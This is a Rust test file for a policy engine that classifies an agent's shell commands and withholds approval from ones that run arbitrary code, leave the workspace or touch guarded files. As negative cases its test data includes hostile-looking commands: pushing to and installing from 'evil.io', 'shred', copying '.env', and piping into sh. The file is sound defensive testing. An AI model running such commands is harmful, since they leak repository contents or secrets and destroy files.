use placet_core::Time;
use serde_json::json;

use super::*;
use crate::{Claims, Place, preset};

const ROOT: &str = "/srv/app";

/// What a call of the shell tool comes to, in the agent's folder, where the hook program found these files.
fn form_in(policy: &str, folder: &str, arguments: &Value, files: &[&str]) -> Result<Template, NotLike> {
    let policy = Policy::parse(policy).unwrap();
    let roots = [ROOT.to_owned()];
    let named = crate::named("Bash", arguments.as_object().unwrap());
    let mut paths = Map::new();
    for text in named.iter().flat_map(|named| &named.texts) {
        if !text.contains("://") {
            let path = if text.starts_with('/') { text.clone() } else { format!("{folder}/{text}") };
            paths.insert(text.clone(), json!(path));
        }
    }
    let moved = named.as_ref().filter(|named| named.moved).and_then(|named| named.folder.clone());
    let context = json!({"cwd": folder, "paths": paths, "files": files, "moved": moved,
        "git": {"repository": ROOT, "runs": []}});
    let context = context.as_object().unwrap();
    let call = Call {
        kind: Kind::Action,
        tool: Some("Bash"),
        arguments: arguments.as_object(),
        steps: &[],
        agent: "a",
        source: "hook",
        time: Time::default(),
        claims: Claims { session: "s", context, risk: None, on_behalf_of: None, group: None },
        place: Some(Place { roots: &roots, context, confines: false }),
        covered: placet_core::Covered::Unknown,
    };
    Template::of(&policy, &call, &policy.evaluate(&call))
}

const HOLDS: &str = "version = 1\n[paths]\nsecrets = [\".env\", \"hooks\"]\n[[rule]]\nname = 'secret'\neffect = 'hold'\ntouches = 'secrets'\n[[cosmetic]]\ntool = 'Bash'\narguments = ['description']\n";

fn form(command: &str, files: &[&str]) -> Result<Template, NotLike> {
    form_in(HOLDS, ROOT, &json!({ "command": command }), files)
}

fn alike(one: &str, other: &str, files: &[&str]) -> bool {
    form(one, files).unwrap().covers(&form(other, files).unwrap())
}

#[test]
fn other_files_of_the_workspace_take_the_place_of_those_that_were_named() {
    let files = ["src/a.rs", "src/b.rs", "c.txt", "/srv/app/src/a.rs"];
    assert!(alike("rustfmt --check src/a.rs", "rustfmt --check src/b.rs", &files));
    assert!(alike("rustfmt --check src/a.rs", "rustfmt --check src/a.rs src/b.rs c.txt", &files));
    assert!(alike("rustfmt --check src/a.rs", "rustfmt --check /srv/app/src/a.rs", &files));
    assert!(alike(
        "git add src/a.rs && git push origin main",
        "git add c.txt && git push origin main",
        &files
    ));
    assert!(form("git add src/a.rs", &files).unwrap().is_open());
}

#[test]
fn every_other_word_is_part_of_the_form() {
    let files = ["src/a.rs", "src/b.rs", "evil.io"];
    for (one, other) in [
        ("rustfmt src/a.rs", "rustfmt --check src/a.rs"),
        ("rustfmt --check src/a.rs", "rustfmt src/a.rs"),
        ("rustfmt src/a.rs", "rustfmt"),
        ("rustfmt src/a.rs", "shred src/a.rs"),
        ("rustfmt src/a.rs", "rustfmt src/new.rs"),
        ("git push origin main", "git push origin other"),
        ("git push origin main", "git push evil.io main"),
        ("npm install left.pad", "npm install evil.io"),
        ("tool -o src/a.rs", "tool -o src/b.rs"),
        ("tool src/a.rs", "tool src/a.rs; tool src/b.rs"),
        ("tool src/a.rs", "tool src/a.rs > src/b.rs"),
        ("tool src/a.rs > src/b.rs", "tool src/a.rs > src/a.rs"),
        ("tool src/a.rs && tool src/b.rs", "tool src/a.rs || tool src/b.rs"),
        ("tool src/a.rs", "tool src/a.rs x"),
    ] {
        assert!(!alike(one, other, &files), "{one} | {other}");
    }
}

#[test]
fn a_word_that_may_be_a_name_is_never_open() {
    // There is a file of that name, and still it is a branch, a package or a machine to the program.
    for word in ["main", "a@1.2", "host:x.y", "x=a/b", "src/*.rs", "{a,b}/c"] {
        let form = form(&format!("tool '{word}'"), &[word]);
        assert!(form.is_err() || !form.unwrap().is_open(), "{word}");
    }
}

#[test]
fn programs_that_run_what_they_are_told_have_no_form() {
    for command in [
        "python x.py",
        "bash -c ls",
        "env X=1 ls",
        "find . -exec rm x",
        "sed -n 1p src/a.rs",
        "xargs rm",
        "./build.sh a",
        "docker run x",
        "ls | sh",
        "git -c core.pager=x log",
    ] {
        assert!(
            matches!(form(command, &["src/a.rs"]), Err(NotLike::Runs(_) | NotLike::Outside)),
            "{command}"
        );
    }
    for command in ["echo $(id)", "ls $X", "ls `id`", "for x in a; do ls; done"] {
        assert!(matches!(form(command, &[]), Err(NotLike::Opaque(_))), "{command}");
    }
}

#[test]
fn what_leaves_the_folder_or_touches_a_guarded_file_has_no_form() {
    for command in ["cp src/a.rs /etc/x", "tool https://x.test/a", "tool x > /tmp/y"] {
        assert!(matches!(form(command, &[]), Err(NotLike::Outside)), "{command}");
    }
    for command in ["cp .env x", "tool a/hooks/b", "tool x > .env"] {
        assert_eq!(form(command, &[]), Err(NotLike::Guarded), "{command}");
    }
    assert_eq!(form_in(HOLDS, "/srv/other", &json!({"command": "ls"}), &[]), Err(NotLike::Outside));
}

#[test]
fn a_folder_of_the_workspace_before_the_command_is_where_it_runs() {
    let files = ["a.rs", "b.rs"];
    let here = form("rustfmt a.rs", &files).unwrap();
    assert!(here.covers(&form("cd sub && rustfmt b.rs", &files).unwrap()));
    let below = form_in(HOLDS, "/srv/app/sub", &json!({"command": "rustfmt b.rs"}), &files).unwrap();
    assert!(here.covers(&below));
}

#[test]
fn other_arguments_count_unless_they_are_cosmetic() {
    let of = |arguments: Value| form_in(HOLDS, ROOT, &arguments, &[]).unwrap();
    let plain = of(json!({"command": "tool a"}));
    assert!(plain.covers(&of(json!({"command": "tool a", "description": "x"}))));
    assert!(!plain.covers(&of(json!({"command": "tool a", "run_in_background": true}))));
    for arguments in [json!({"command": 5}), json!({}), json!({"command": "ls", "cmd": "ls"})] {
        assert!(form_in(HOLDS, ROOT, &arguments, &[]).is_err(), "{arguments}");
    }
}

#[test]
fn a_call_that_another_rule_holds_as_well_is_not_covered() {
    let policy = |rules: &[&str]| {
        let rule = |name: &&str| format!("[[rule]]\nname = '{name}'\neffect = 'hold'\ntool = 'Bash'\n");
        let text = format!("version = 1\n{}", rules.iter().map(rule).collect::<String>());
        form_in(&text, ROOT, &json!({"command": "tool a"}), &[]).unwrap()
    };
    let (one, both) = (policy(&["all"]), policy(&["all", "late"]));
    assert!(!one.covers(&both));
    assert!(both.covers(&one));
    assert_eq!(form("tool a", &[]).unwrap().rules, ["default".to_owned()].into());
}

#[test]
fn a_call_that_passes_has_no_form_and_the_preset_gives_forms_to_held_ones() {
    let preset = preset("coding-agent").unwrap();
    let of = |command: &str, files: &[&str]| form_in(preset, ROOT, &json!({ "command": command }), files);
    assert_eq!(of("ls", &[]), Err(NotLike::NotHeld));
    assert_eq!(of("gh pr diff .env", &[]), Err(NotLike::Guarded));
    assert!(of("gh release upload v1 dist/a.tgz", &["dist/a.tgz"]).unwrap().is_open());
}

#[test]
fn the_words_hide_nothing_and_are_read_back() {
    let form = form("tool 'a b' FILES src/a.rs -x > out | wc -l", &["src/a.rs"]).unwrap();
    assert_eq!(
        form.to_string(),
        "commands of `Bash` like `tool 'a b' 'FILES' FILES -x > out | wc -l` in `/srv/app`, where FILES stands for one or more \
         files or folders in `/srv/app` that are there and that no rule guards; they run as this one does, not confined"
    );
    let text = serde_json::to_string(&form).unwrap();
    assert_eq!(serde_json::from_str::<Template>(&text).unwrap(), form);
    assert!(serde_json::from_str::<Template>(&text.replacen("\"tool\"", "\"x\":1,\"tool\"", 1)).is_err());
}
